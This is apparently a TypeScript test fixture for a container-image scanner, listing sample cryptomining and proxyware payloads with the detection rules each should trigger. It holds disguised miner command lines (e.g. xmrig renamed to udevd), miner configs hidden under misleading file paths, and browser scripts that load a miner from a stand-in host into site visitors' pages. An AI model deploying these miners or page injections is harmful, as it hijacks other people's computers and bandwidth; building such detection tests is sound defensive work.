import { MINER_STRINGS, program } from '../../../../test/detection/image-case.ts';
import {
  dogecoinAddress,
  ethereumAddress,
  moneroAddress,
  moneroSubaddress,
  ravencoinAddress,
} from '../../../../testkit/addresses.ts';
import { NGINX, type Payload } from '../payload.ts';

const XMR = moneroAddress('accuracy');
const POOL = 'relay.backend.example:10343';
const MINER_RULES = ['miner/proof', 'miner/config', 'miner/command', 'miner/program'];

function command(name: string, text: string): Payload {
  return { class: 'miner: command line', kind: 'command', name, text, rules: MINER_RULES };
}

function settings(name: string, path: string, text: string): Payload {
  return {
    class: 'miner: settings',
    kind: 'file',
    name,
    path,
    text,
    config: NGINX,
    rules: MINER_RULES,
  };
}

function compiled(name: string, strings: readonly string[]): Payload {
  return { class: 'miner: program', kind: 'program', name, bytes: program(strings), rules: MINER_RULES };
}

/** What earns for somebody else. */
export const MINING: readonly Payload[] = [
  command('of xmrig', `/usr/lib/sysd/udevd -o ${POOL} -u ${XMR}.$(hostname) -p x --tls --donate-level 0`),
  command('by stratum', `/opt/svc/engine --server stratum+ssl://${POOL} --wallet ${XMR} --threads 4`),
  command(
    'on a graphics card',
    `/opt/svc/gpu -a kawpow -o stratum+tcp://rvn.backend.example:6060 -u ${ravencoinAddress('gpu')}.w1 -p x`,
  ),
  command(
    'of Java',
    `java -Xmx2g -cp /opt/svc/lib/core.jar:/opt/svc/lib/net.jar org.example.Engine --pool ${POOL} --user ${XMR} --algo rx/0`,
  ),
  command(
    'through Tor',
    `torsocks /opt/svc/engine -o ${'b'.repeat(56)}.onion:3333 -u ${moneroSubaddress('onion')} -k`,
  ),
  settings(
    'of xmrig, JSON',
    'usr/share/misc/locale.db',
    JSON.stringify({
      autosave: false,
      'donate-level': 0,
      cpu: { enabled: true, 'huge-pages': true },
      pools: [{ url: POOL, user: XMR, pass: 'x', tls: true, keepalive: true }],
    }),
  ),
  settings(
    'with comments',
    'etc/svc/main.conf',
    `// main\n{\n  "algo": "rx/0", /* default */\n  "pools": [ { "url": "${POOL}", "user": "${XMR}+50000", }, ],\n}\n`,
  ),
  settings(
    'YAML',
    'etc/svc/main.yaml',
    `engine:\n  threads: 4\n  pool: ${POOL}\n  wallet: ${XMR}\n  algo: rx/0\n`,
  ),
  settings(
    'properties',
    'opt/svc/app.properties',
    `engine.pool=stratum+tcp://${POOL}\nengine.user=DOGE:${dogecoinAddress('p')}.rig1\nengine.algo=rx/0\n`,
  ),
  settings(
    'of a graphics card',
    'opt/svc/gpu.ini',
    `[POOL1]\nurl = stratum2+tcp://etc.backend.example:4444\nuser = ${ethereumAddress('gpu')}.rig\nalgo = etchash\n`,
  ),
  compiled('of xmrig', MINER_STRINGS),
  compiled('of another kind', [
    'mining.subscribe',
    'mining.authorize',
    'mining.submit',
    'stratum+ssl://',
    '--algo=ALGO   specify the hash algorithm to use',
    'accepted: %lu/%lu (%.2f%%), %s',
    'cryptonight',
    'hashrate',
  ]),
  compiled('on graphics cards', [
    'kawpow',
    'ethash',
    'mining.notify',
    'mining.submit',
    'CUDA error',
    'DAG size',
    'stratum2+tcp',
    'GPU #%d: %s, %.2f MH/s',
    'accepted share',
    '--devices',
    '--pool',
  ]),
  {
    class: 'wallet',
    kind: 'file',
    name: 'of Monero',
    path: 'var/lib/misc/id',
    text: `${XMR}\n`,
    config: NGINX,
    rules: ['wallet/address'],
  },
  {
    class: 'wallet',
    kind: 'command',
    name: 'in an argument',
    text: `/opt/svc/engine --account ${moneroSubaddress('argument')}`,
    rules: ['wallet/address', ...MINER_RULES],
  },
  {
    class: 'pool',
    kind: 'command',
    name: 'well known',
    text: '/opt/svc/engine --upstream gulf.moneroocean.stream:20128',
    rules: ['pool/address', ...MINER_RULES],
  },
  {
    class: 'pool',
    kind: 'command',
    name: 'by its scheme',
    text: '/opt/svc/engine --upstream stratum+tcp://relay.backend.example:3333',
    rules: ['pool/address', ...MINER_RULES],
  },
  {
    class: 'bandwidth sold',
    kind: 'command',
    name: 'an agent with a token',
    text: '/opt/svc/tm start accept --token AbCdEf0123456789AbCdEf0123456789AbCdEf01234=',
    rules: ['proxyware/agent'],
  },
  {
    class: 'bandwidth sold',
    kind: 'command',
    name: 'an agent with an account',
    text: '/opt/svc/hg -tou-accept -email a@mail.example -pass s3cretword -device node1',
    rules: ['proxyware/agent'],
  },
  {
    class: 'miner in a page',
    kind: 'file',
    name: 'started in visitors’ browsers',
    path: 'usr/share/nginx/html/app.js',
    text: 'var s=document.createElement("script");s.src="https://cdn.backend.example/lib/miner.min.js";s.onload=function(){var m=new Client.Anonymous("0123456789abcdef0123456789abcdef",{throttle:.3,c:"w"});m.start()};document.head.appendChild(s);\n',
    config: NGINX,
    rules: ['miner/in-page', 'miner/config', 'miner/proof'],
  },
  {
    class: 'miner in a page',
    kind: 'file',
    name: 'a worker with a pool',
    path: 'usr/share/nginx/html/w.js',
    text: `var ws=new WebSocket("wss://relay.backend.example:443");ws.onopen=function(){ws.send(JSON.stringify({identifier:"handshake",pool:"${POOL}",login:"${XMR}",password:"",algo:"cn-lite"}))};WebAssembly.instantiateStreaming(fetch("cn.wasm"));\n`,
    config: NGINX,
    rules: ['miner/in-page', 'miner/config', 'miner/proof'],
  },
];
